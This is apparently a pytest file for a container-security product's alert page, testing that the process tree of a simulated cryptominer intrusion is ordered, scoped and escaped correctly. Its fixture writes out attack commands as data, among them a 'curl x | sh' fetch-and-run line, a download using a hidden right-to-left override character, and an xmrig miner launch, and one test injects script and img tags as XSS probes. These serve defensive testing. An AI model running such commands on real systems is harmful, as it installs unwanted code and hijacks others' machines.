"""The tab *Process tree* of an alert, and what it says where there is none."""

from __future__ import annotations

import datetime as dt
import uuid
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from accounts.models import ScopeEntry, User
from drift.alerts.models import Alert, ExecBudget, StoredExec
from drift.alerts.queries import exec_tree
from drift.fleet.actions.environments import switch_exec_history
from drift.fleet.models import Environment, SensorStatus
from tests.unit.drift.alerts.conftest import Estate, event, now
from tests.unit.drift.alerts.test_stored_execs import an_exec, report, send

pytestmark = [pytest.mark.services, pytest.mark.django_db]
ClientOf = Callable[[User], Client]
Post = Callable[..., Any]
PID = 3256138


class Attack:
    """A shell that downloads a miner, runs it, and goes on: two of its execs drifted."""

    def __init__(self, estate: Estate, post: Post) -> None:
        self.at = now() - dt.timedelta(minutes=5)
        self.estate, self.post = estate, post
        shell, curl, miner = uuid.uuid4(), uuid.uuid4(), uuid.uuid4()
        self.miner = str(miner)
        self.execs = [
            self.ran(0, shell, 100, ["sh", "-c", "curl x | sh"], [1], uid=33),
            self.ran(1, curl, 101, ["curl", "-o", "/tmp/m", "https://x/\u202em"], [100]),
            self.ran(3, miner, PID, ["./xmrig", "-o", "pool"], [100]),
            self.ran(9, uuid.uuid4(), 104, ["nproc"], [PID]),
            self.ran(11, uuid.uuid4(), 900, ["/probe"], [800]),
        ]
        written = {"name": "curl", "pid": 101, "at": self.time(1).isoformat()}
        sent = event(event_id=str(miner), at=self.time(3), process__written_by=written, process__pid=PID)
        assert post(estate.client(), sent).status_code == 200
        self.alert = Alert.objects.get()

    def time(self, second: float) -> dt.datetime:
        return self.at + dt.timedelta(seconds=second)

    def ran(self, second: float, exec_id: uuid.UUID, pid: int, argv: list[str], above: list[int], **more: Any) -> Any:
        at = self.time(second)
        started = (at - dt.timedelta(seconds=0.5)).isoformat()
        parents = [{"pid": each} for each in above]
        more = {"uid": 0} | more
        return an_exec(
            exec_id=str(exec_id), at=at.isoformat(), pid=pid, argv=argv, path=argv[0], ancestors=parents,
            started_at=started, **more,
        )  # fmt: skip

    def report(self, **changes: Any) -> None:
        assert send(self.estate.client(), report(*self.execs, **changes)).status_code == 200


@pytest.fixture
def attack(estate: Estate, post: Post) -> Attack:
    return Attack(estate, post)


def tree_page(client: Client, alert: Alert) -> str:
    answer = client.get(f"/alerts/{alert.pk}/?tab=tree")
    assert answer.status_code == 200
    return answer.content.decode()


def test_the_tree_has_who_started_what_when_as_whom_and_who_wrote_it(
    attack: Attack, reader: User, client_of: ClientOf
) -> None:
    attack.report()
    page = tree_page(client_of(reader), attack.alert)
    tree = page.split('class="process-tree"')[1].split("</ol>")[0]
    places = [tree.index(text) for text in ("curl x | sh", "curl -o", "./xmrig -o pool", "nproc")]
    assert places == sorted(places)
    assert "written by <bdi>curl</bdi> 2 s earlier" in tree
    assert "This alert" in tree
    assert "user 33" in tree
    assert f"{attack.time(3):%Y-%m-%d %H:%M:%S}" in tree
    assert "/probe" not in tree
    assert "Other executions in the container (1)" in page


def test_hidden_characters_are_shown_as_escapes(attack: Attack, reader: User, client_of: ClientOf) -> None:
    attack.report()
    page = tree_page(client_of(reader), attack.alert)
    assert "\u202e" not in page
    assert "https://x/\\u202em" in page


def test_markup_in_a_command_line_is_text(attack: Attack, reader: User, client_of: ClientOf) -> None:
    attack.execs[1]["argv"] = ["curl", "</code><script>alert(1)</script>", "a\nb"]
    attack.execs[0]["parent_name"] = "<img src=x>"
    attack.report()
    page = tree_page(client_of(reader), attack.alert)
    assert "<script>alert" not in page
    assert "<img src=x>" not in page
    assert "a\\nb" in page


def test_another_alert_in_the_tree_is_a_link(
    attack: Attack, estate: Estate, post: Post, reader: User, client_of: ClientOf
) -> None:
    other = attack.execs[3]["exec_id"]
    post(estate.client(), event(event_id=other, at=attack.time(9), process__path="/tmp/nproc", process__pid=104))
    attack.report()
    second = Alert.objects.exclude(pk=attack.alert.pk).get()
    assert f'href="/alerts/{second.pk}/"' in tree_page(client_of(reader), attack.alert)


def test_what_is_outside_a_user_s_scope_is_not_in_the_tree(
    attack: Attack, estate: Estate, post: Post, reader: User
) -> None:
    attack.report()
    other = attack.execs[3]["exec_id"]
    post(
        estate.client(),
        event(event_id=other, at=attack.time(9), process__path="/tmp/n", container__namespace="secret"),
    )
    StoredExec.objects.filter(exec_id=attack.execs[4]["exec_id"]).update(namespace="secret")
    User.objects.filter(pk=reader.pk).update(is_scoped=True)
    ScopeEntry.objects.create(user=reader, cluster=attack.alert.cluster, namespace="shop")
    found = exec_tree.exec_tree(User.objects.get(pk=reader.pk), attack.alert)
    assert found.tree is not None
    lines = [*found.tree.lines, *found.tree.others]
    assert "/probe" not in [line.ran.command for line in lines]
    assert {line.ran.drift.alert for line in lines if line.ran.drift} == {attack.alert.pk}


def test_another_sensor_s_execs_of_a_container_with_this_id_are_not_shown(
    attack: Attack, estate: Estate, reader: User, client_of: ClientOf
) -> None:
    attack.report()
    send(estate.client(1), report(attack.ran(4, uuid.uuid4(), 5, ["./planted"], [PID])))
    assert "planted" not in tree_page(client_of(reader), attack.alert)


def test_the_64_before_and_ten_minutes_after_are_shown(attack: Attack, reader: User, client_of: ClientOf) -> None:
    old = [attack.ran(-200 + number, uuid.uuid4(), 2_000 + number, [f"old-{number:03}"], [1]) for number in range(80)]
    late = [attack.ran(second, uuid.uuid4(), 3_000 + second, [f"late-{second}"], [1]) for second in (599, 1_000)]
    for part in (old[:40], old[40:], late):
        for start in range(0, len(part), 16):
            send(attack.estate.client(), report(*part[start : start + 16]))
    attack.execs = attack.execs[:3]
    StoredExec.objects.filter(detail__path__startswith="late").update(observed_at=attack.time(599))
    attack.report()
    page = tree_page(client_of(reader), attack.alert)
    assert "old-018" not in page
    assert "old-079" in page


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ("off", exec_tree.OFF),
        ("sample", exec_tree.SAMPLE),
        ("old sensor", exec_tree.NOT_KEPT),
        ("expired", exec_tree.EXPIRED),
        ("soon", exec_tree.WAITING),
        ("lost", exec_tree.LOST),
    ],
)
def test_a_page_without_a_tree_says_why(
    attack: Attack, reader: User, admin: User, client_of: ClientOf, change: str, reason: str
) -> None:
    alert = attack.alert
    capabilities = ["ebpf"] if change == "old sensor" else ["ebpf", "exec-history"]
    SensorStatus.objects.update_or_create(sensor=alert.sensor, defaults={"capabilities": capabilities, "counters": {}})
    if change == "off":
        switch_exec_history(admin, Environment.objects.get(), on=False)
    if change == "sample":
        Alert.objects.update(sample=True)
    if change == "expired":
        alert.detail.event["observed_at"] = (now() - dt.timedelta(days=400)).isoformat()
        alert.detail.save()
    if change != "soon":
        Alert.objects.update(created_at=timezone.now() - dt.timedelta(minutes=5))
    assert reason.replace("'", "&#x27;") in tree_page(client_of(reader), alert)


def test_a_sensor_that_reached_its_limit_is_named_on_the_page(
    attack: Attack, reader: User, client_of: ClientOf
) -> None:
    attack.report()
    ExecBudget.objects.update(dropped_at=timezone.now())
    assert exec_tree.LIMIT in tree_page(client_of(reader), attack.alert)


def test_missing_executions_are_said_where_they_are(attack: Attack, reader: User, client_of: ClientOf) -> None:
    attack.report(missed=7)
    page = tree_page(client_of(reader), attack.alert)
    assert "7 executions before this one are missing" in page
    assert "7 executions of the container are missing" in page


def test_an_alert_of_before_is_opened_without_a_tree(attack: Attack, reader: User, client_of: ClientOf) -> None:
    process = attack.alert.detail.event["process"]
    for name in ("pid", "parent", "ancestors", "started_at", "written_by"):
        process.pop(name, None)
    attack.alert.detail.save()
    attack.report()
    assert "This alert" in tree_page(client_of(reader), attack.alert)


def test_the_page_takes_as_many_queries_for_many_executions_as_for_few(
    attack: Attack, reader: User, client_of: ClientOf, django_assert_max_num_queries: Any
) -> None:
    attack.report()
    for start in range(0, 240, 16):
        more = [attack.ran(10 + start + n, uuid.uuid4(), 5_000 + start + n, ["x"], [PID]) for n in range(16)]
        send(attack.estate.client(), report(*more))
    browser = client_of(reader)
    with django_assert_max_num_queries(12):
        page = tree_page(browser, attack.alert)
    assert "More followed than are shown here." in page


def test_the_printable_report_has_the_tree(attack: Attack, reader: User, client_of: ClientOf) -> None:
    attack.report()
    page = client_of(reader).get(f"/alerts/{attack.alert.pk}/report/").content.decode()
    assert 'class="process-tree"' in page
    assert "curl -o" in page
